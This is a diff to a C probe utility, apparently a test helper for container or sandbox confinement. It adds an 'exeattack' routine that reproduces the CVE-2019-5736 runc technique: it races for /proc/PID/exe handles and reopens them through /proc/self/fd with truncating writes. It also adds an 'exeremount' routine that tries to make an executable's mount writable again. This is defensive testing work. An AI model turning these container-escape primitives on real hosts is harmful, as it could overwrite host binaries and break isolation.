@@ -9,8 +9,25 @@
  *   probe zombies N [CMD..]  fork N children that exit at once, wait until
  *                            all N are zombies, never wait for them; then exit 0,
  *                            or exec CMD (the zombies stay its children)
- *   probe open PATH MODE     open PATH (MODE r, w or a); "ok" or the errno text
- *                            (exit 0 if it opened, 1 if not)
+ *   probe open PATH MODE     open PATH (MODE r, w, a, or t: write and truncate);
+ *                            "ok" or the errno text (exit 0 if it opened, 1 if not)
+ *   probe exeattack [-r ROOT] [-n N] CMD [ARG..]
+ *                            CVE-2019-5736: run CMD with its output held in
+ *                            a full pipe, so it blocks on its first write;
+ *                            meanwhile race to hold an O_PATH fd of
+ *                            /proc/PID/exe of every process whose root is
+ *                            ROOT (default /; not ourselves, not busybox)
+ *                            until N are held; then, while they run, open
+ *                            each truncating (t), and after CMD exits, open
+ *                            each for writing (w), all through
+ *                            /proc/self/fd/N. One line a process:
+ *                            "COMM t=ERR w=ERR" or "COMM open=ERR"
+ *   probe exeremount PATH    with CAP_SYS_ADMIN, try to make the mount of the
+ *                            file PATH (an exe link) writable again: clear
+ *                            its read-only flag (mount_setattr), clone it
+ *                            (open_tree) and clear the clone's, remount it
+ *                            rw; then open it truncating. One line:
+ *                            "setattr=R clone=R remount=R t=R"
  *   probe stdin              read stdin to EOF, print how many bytes
  *   probe sys NAME           try one syscall the seccomp filter refuses
  *                            (keyctl, unshare-user, clone-newns, bpf,
@@ -31,11 +48,14 @@
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/mount.h>
 #include <sys/prctl.h>
+#include <sys/stat.h>
 #include <sys/socket.h>
 #include <sys/syscall.h>
 #include <termios.h>
@@ -154,7 +174,8 @@ static int zombies(int n, char **cmd)
 
 static int do_open(const char *path, const char *mode)
 {
-	int flags = !strcmp(mode, "w") ? O_WRONLY : !strcmp(mode, "a") ? O_WRONLY | O_APPEND : O_RDONLY;
+	int flags = !strcmp(mode, "w") ? O_WRONLY : !strcmp(mode, "a") ? O_WRONLY | O_APPEND :
+		    !strcmp(mode, "t") ? O_WRONLY | O_TRUNC : O_RDONLY;
 	int fd = open(path, flags);
 
 	if (fd < 0) {
@@ -163,6 +184,165 @@ static int do_open(const char *path, const char *mode)
 	}
 	printf("ok\n");
 	close(fd);
+	return 0;
+}
+
+/* <linux/mount.h>, which musl-gcc does not see. */
+struct mount_attr { unsigned long long attr_set, attr_clr, propagation, userns_fd; };
+#define MOUNT_ATTR_RDONLY 0x1
+#define OPEN_TREE_CLONE 1
+#ifndef AT_EMPTY_PATH
+#define AT_EMPTY_PATH 0x1000
+#endif
+
+/* "ok" or why FD (an O_PATH fd) does not open with FLAGS. */
+static const char *reopen(int fd, int flags)
+{
+	char p[32];
+	int w;
+
+	snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
+	if ((w = open(p, flags)) < 0)
+		return strerror(errno);
+	close(w);
+	return "ok";
+}
+
+static bool same_file(const struct stat *a, const struct stat *b)
+{
+	return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
+}
+
+/* See the usage at the top. The writes that could change a file are only
+ * tried while its process runs (the kernel's text-busy rule stops them
+ * where nothing else does): truncating ones before CMD is let go, plain
+ * opens for writing (no byte written) after it ended. */
+static int exeattack(int argc, char **argv)
+{
+	struct held { pid_t pid; int fd; char comm[32]; const char *err; } h[64];
+	struct stat self, bb, root, st;
+	const char *rootpath = "/";
+	int n = 0, want = 1, p[2], c;
+	char junk[4096];
+	pid_t kid;
+
+	while ((c = getopt(argc, argv, "+r:n:")) != -1) {
+		if (c == 'r')
+			rootpath = optarg;
+		else if (c == 'n')
+			want = atoi(optarg);
+		else
+			return 2;
+	}
+	if (optind == argc || stat("/proc/self/exe", &self) < 0 || stat(rootpath, &root) < 0 || pipe(p) < 0) {
+		perror("exeattack");
+		return 2;
+	}
+	if (stat("/bin/busybox", &bb) < 0)
+		bb = self;
+	/* A full pipe: CMD's first write blocks until we drain it. */
+	fcntl(p[1], F_SETPIPE_SZ, 4096);
+	fcntl(p[1], F_SETFL, O_NONBLOCK);
+	while (write(p[1], junk, sizeof(junk)) > 0)
+		;
+	fcntl(p[1], F_SETFL, 0);
+	if ((kid = fork()) == 0) {
+		dup2(p[1], 1);
+		dup2(p[1], 2);
+		execvp(argv[optind], argv + optind);
+		_exit(127);
+	}
+	close(p[1]);
+	/* The race: every process under ROOT, until WANT exes are held, CMD
+	 * ended, or 5 s passed. */
+	for (int tries = 0, got = 0; got < want && tries < 5000; tries++) {
+		DIR *d = opendir("/proc");
+		struct dirent *e;
+		got = 0;
+		while (d && (e = readdir(d)) && n < 64) {
+			pid_t pid = (pid_t)atoi(e->d_name);
+			char path[64];
+			int i, fd;
+			if (pid <= 0 || pid == getpid())
+				continue;
+			snprintf(path, sizeof(path), "/proc/%d/root", (int)pid);
+			/* In a container, a process we may not look at (PID 1)
+			 * is reported; on the host (-r), only ROOT's are ours. */
+			if (stat(path, &st) < 0 ? errno != EACCES || strcmp(rootpath, "/") : !same_file(&st, &root))
+				continue;
+			for (i = 0; i < n && h[i].pid != pid; i++)
+				;
+			if (i < n && !h[i].err) {
+				got++;
+				continue;
+			}
+			snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
+			fd = open(path, O_PATH | O_CLOEXEC);
+			if (fd >= 0 && (fstat(fd, &st) < 0 || same_file(&st, &self) || same_file(&st, &bb))) {
+				close(fd);
+				continue;	/* not mdk (yet) */
+			}
+			h[i].pid = pid;
+			h[i].fd = fd;
+			h[i].err = fd < 0 ? strerror(errno) : NULL;
+			snprintf(path, sizeof(path), "/proc/%d/comm", (int)pid);
+			int cf = open(path, O_RDONLY);
+			ssize_t k = cf >= 0 ? read(cf, h[i].comm, sizeof(h[i].comm) - 1) : 0;
+			h[i].comm[k > 0 ? k - 1 : 0] = 0;
+			if (cf >= 0)
+				close(cf);
+			if (i == n)
+				n++;
+			got += fd >= 0;
+		}
+		if (d)
+			closedir(d);
+		if (waitpid(kid, NULL, WNOHANG) == kid) {
+			kid = -1;
+			break;
+		}
+		struct timespec ts = { 0, 1000000 };
+		nanosleep(&ts, NULL);
+	}
+	const char *trunc[64];
+	for (int i = 0; i < n; i++)
+		trunc[i] = h[i].err ? NULL : reopen(h[i].fd, O_WRONLY | O_TRUNC);
+	/* Let CMD go and end; then write through what we hold. */
+	while (read(p[0], junk, sizeof(junk)) > 0)
+		;
+	if (kid > 0)
+		waitpid(kid, NULL, 0);
+	for (int i = 0; i < n; i++) {
+		if (h[i].err)
+			printf("%s open=%s\n", h[i].comm, h[i].err);
+		else
+			printf("%s t=%s w=%s\n", h[i].comm, trunc[i], reopen(h[i].fd, O_WRONLY));
+	}
+	return 0;
+}
+
+static const char *res(long r) { return r < 0 ? strerror(errno) : "ok"; }
+
+static int exeremount(const char *path)
+{
+	struct mount_attr clr = { .attr_clr = MOUNT_ATTR_RDONLY };
+	int fd = open(path, O_PATH | O_CLOEXEC), clone;
+	char p[32];
+
+	if (fd < 0) {
+		printf("open=%s\n", strerror(errno));
+		return 1;
+	}
+	printf("setattr=%s", res(syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &clr, sizeof(clr))));
+	clone = (int)syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
+	printf(" clone=%s", res(clone));
+	if (clone >= 0) {
+		printf(" clone-setattr=%s", res(syscall(SYS_mount_setattr, clone, "", AT_EMPTY_PATH, &clr, sizeof(clr))));
+		printf(" clone-t=%s", reopen(clone, O_WRONLY | O_TRUNC));
+	}
+	snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
+	printf(" remount=%s", res(mount(NULL, p, NULL, MS_REMOUNT | MS_BIND, NULL)));
+	printf(" t=%s\n", reopen(fd, O_WRONLY | O_TRUNC));
 	return 0;
 }
 
@@ -305,6 +485,10 @@ int main(int argc, char **argv)
 		return zombies(atoi(argv[2]), argv + 3);
 	if (!strcmp(what, "open") && argc == 4)
 		return do_open(argv[2], argv[3]);
+	if (!strcmp(what, "exeattack") && argc > 2)
+		return exeattack(argc - 1, argv + 1);
+	if (!strcmp(what, "exeremount") && argc == 3)
+		return exeremount(argv[2]);
 	if (!strcmp(what, "stdin")) {
 		char buf[4096];
 		long total = 0;
@@ -318,6 +502,6 @@ int main(int argc, char **argv)
 		return sys(argv[2]);
 	if (!strcmp(what, "ttyattack") && argc == 3)
 		return ttyattack(argv[2]);
-	fprintf(stderr, "usage: probe caps|bnd|fds|cwd|pids|zombies N [CMD]|open PATH r|w|a|stdin|sys NAME|ttyattack TEXT\n");
+	fprintf(stderr, "usage: probe caps|bnd|fds|cwd|pids|zombies N [CMD]|open PATH r|w|a|t|exeattack [-r ROOT] [-n N] CMD|exeremount PATH|stdin|sys NAME|ttyattack TEXT\n");
 	return 2;
 }
